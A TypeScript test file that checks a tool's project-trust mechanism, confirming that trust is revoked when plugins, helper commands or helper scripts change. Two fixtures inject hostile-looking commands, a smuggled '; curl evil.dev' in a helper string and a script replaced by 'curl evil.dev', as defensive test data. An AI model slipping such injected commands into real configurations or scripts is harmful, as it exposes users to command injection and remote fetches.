import { mkdirSync, renameSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { readConfig } from "@llm-orc/core-config";
import { describe, expect, it } from "vitest";
import { grantTrust, showTrust } from "../trust/trust-project.ts";
import { pluginManifest, pluginModule, type PluginProject, pluginProject } from "./__fixtures__/plugin-project.ts";
import { readProjectTrust } from "./project-trust.ts";
import { createTrustStore } from "./trust-store.ts";

const CONFIG = "plugins: [./p]\nhelper: bash tools/key.sh --all\nproviders: {acme: {helper: get acme}}\n";

describe("readProjectTrust", () => {
  it("knows a project that asks for nothing, one that nobody trusts, and one that the user trusts", async () => {
    const project = withPlugin();
    expect(await stateOf(pluginProject())).toBe("none");
    expect(await stateOf(project)).toBe("untrusted");
    await trust(project);
    expect(await stateOf(project)).toBe("trusted");
    expect(await stateOf(withPlugin())).toBe("untrusted");
  });

  it.each<[string, (project: PluginProject) => void]>([
    ["another plugin", (p) => p.write({ ".llm-orc/config.yaml": CONFIG.replace("[./p]", "[./p, ./q.js]"), ".llm-orc/q.js": "" })],
    ["a plugin that is gone", ({ root }) => rmSync(join(root, ".llm-orc/p"), { recursive: true })],
    ["code of a plugin", (p) => p.write({ ".llm-orc/p/index.js": "// other" })],
    ["another helper", (p) => p.write({ ".llm-orc/config.yaml": CONFIG.replace("--all", "--all; curl evil.dev") })],
    ["a helper of another provider", (p) => p.write({ ".llm-orc/config.yaml": CONFIG.replace("acme:", "other:") })],
    ["one helper less", (p) => p.write({ ".llm-orc/config.yaml": CONFIG.replace(/^helper.*\n/m, "") })],
    ["a script that the helper names", (p) => p.write({ "tools/key.sh": "curl evil.dev" })],
    ["a word in config.local.yaml", (p) => p.write({ ".llm-orc/config.local.yaml": "helper: other" })],
  ])("does not trust any more after %s", async (_name, change) => {
    const project = withPlugin();
    await trust(project);
    change(project);
    expect(await stateOf(project)).toBe("changed");
  });

  it.each<[string, (project: PluginProject) => void]>([
    [
      "other settings of the project",
      (p) => p.write({ ".llm-orc/config.yaml": `${CONFIG}performance: {execution: {default_timeout: 5}}\n` }),
    ],
    ["other files", (p) => p.write({ "README.md": "x", ".llm-orc/ensembles/e.yaml": "name: e" })],
  ])("trusts as before after %s", async (_name, change) => {
    const project = withPlugin();
    await trust(project);
    change(project);
    expect(await stateOf(project)).toBe("trusted");
  });

  it("means the place: not a copy elsewhere, but the same folder by another way", async () => {
    const project = withPlugin();
    await trust(project);
    const link = join(project.home, "link");
    symlinkSync(project.root, link);
    expect(await stateOf(project, link)).toBe("trusted");
    const moved = join(project.home, "moved");
    renameSync(project.root, moved);
    expect(await stateOf(project, moved)).toBe("untrusted");
    mkdirSync(project.root);
  });

  it("trusts nobody when the list cannot be read, and says so", async () => {
    const project = withPlugin();
    await trust(project);
    const { file } = createTrustStore(project.context().env);
    writeFileSync(file, "{");
    const { config } = await readConfig(project.context());
    expect(readProjectTrust(project.context(), config.untrusted)).toMatchObject({
      state: "untrusted",
      problem: { code: "TRUST_STORE_UNREADABLE" },
    });
    unlinkSync(file);
    mkdirSync(file);
    expect(readProjectTrust(project.context(), config.untrusted)).toMatchObject({
      state: "untrusted",
      problem: { code: "TRUST_STORE_UNREADABLE" },
    });
    rmSync(dirname(file), { recursive: true });
    expect(await stateOf(project)).toBe("untrusted");
  });
});

function withPlugin(): PluginProject {
  const project = pluginProject();
  project.write({
    ".llm-orc/config.yaml": CONFIG,
    ".llm-orc/p/package.json": pluginManifest("p", ["acme"]),
    ".llm-orc/p/index.js": pluginModule("acme"),
    "tools/key.sh": "echo key\n",
  });
  return project;
}

async function trust(project: PluginProject): Promise<void> {
  const { hash } = await showTrust.run(project.context(), {});
  await grantTrust.run(project.context(), { hash });
}

async function stateOf(project: PluginProject, cwd = project.root): Promise<string> {
  const context = project.context({ cwd });
  const { config } = await readConfig(context);
  return readProjectTrust(context, config.untrusted).state;
}
